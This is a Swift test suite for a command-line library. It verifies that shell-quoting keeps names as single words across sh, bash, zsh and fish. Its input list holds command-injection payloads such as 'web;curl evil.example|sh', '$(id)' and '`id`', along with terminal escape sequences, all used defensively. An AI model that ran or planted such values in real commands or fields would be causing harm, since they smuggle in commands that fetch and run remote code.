import CommandLineKit
import Foundation
import Testing

/// Names as words of a command line.
@Suite struct `Words for a shell` {
    private static let names = [
        "KEY", "web", "", " ", "web;curl evil.example|sh", "K;touch${IFS}/tmp/x", "it's", "''",
        "\\",
        "a\nb", "`id`", "$(id)", "~", "=ls", "*", "-rf", "ü", "名", "a\u{1b}]0;PWN\u{7}b",
        "\u{202e}x",
        "a\u{1b}[' ;id", "\u{7f}'\\", "#", "!x", "a b", "https://x.example:1/", "A=B", "{a,b}",
    ]

    @Test("SEC-F11: a quoted name is the same single word in every shell", arguments: names)
    func words(name: String) throws {
        let word = ShellWord.quoted(name)
        for scalar in word.unicodeScalars {
            #expect(scalar.value >= 0x20 && !(0x7F..<0xA0).contains(scalar.value))
            #expect(scalar != "\u{202E}")
        }
        for shell in ["/bin/sh", "/bin/bash", "/usr/bin/zsh", "/usr/bin/fish"]
        where FileManager.default.isExecutableFile(atPath: shell) {
            let process = Process()
            process.executableURL = URL(fileURLWithPath: shell)
            process.arguments = ["-c", "printf '%s.' first \(word) last"]
            let pipe = Pipe()
            process.standardOutput = pipe
            try process.run()
            let output = try pipe.fileHandleForReading.readToEnd() ?? Data()
            process.waitUntilExit()
            let text = String(decoding: output, as: UTF8.self)
            // A shell without $'…' takes it for a word after a dollar sign: harmless.
            let isEscaped = word.hasPrefix("$")
            #expect(
                text == "first.\(name).last."
                    || isEscaped && shell == "/bin/sh" && text.hasPrefix("first.$")
                    || isEscaped && shell == "/usr/bin/fish" && text.isEmpty,
                "\(shell): \(text)")
        }
    }

    @Test("SEC-F11: names without special characters stay unquoted")
    func bareWords() {
        for name in ["KEY", "web", "https://x.example:1", "dpl_1", "feature/x", "a@b", "A=B"] {
            #expect(ShellWord.quoted(name) == name)
        }
        #expect(ShellWord.quoted("it's") == #"'it'\''s'"#)
        #expect(ShellWord.quoted(#"\a b\"#) == #"\\'a b'\\"#)
    }
}
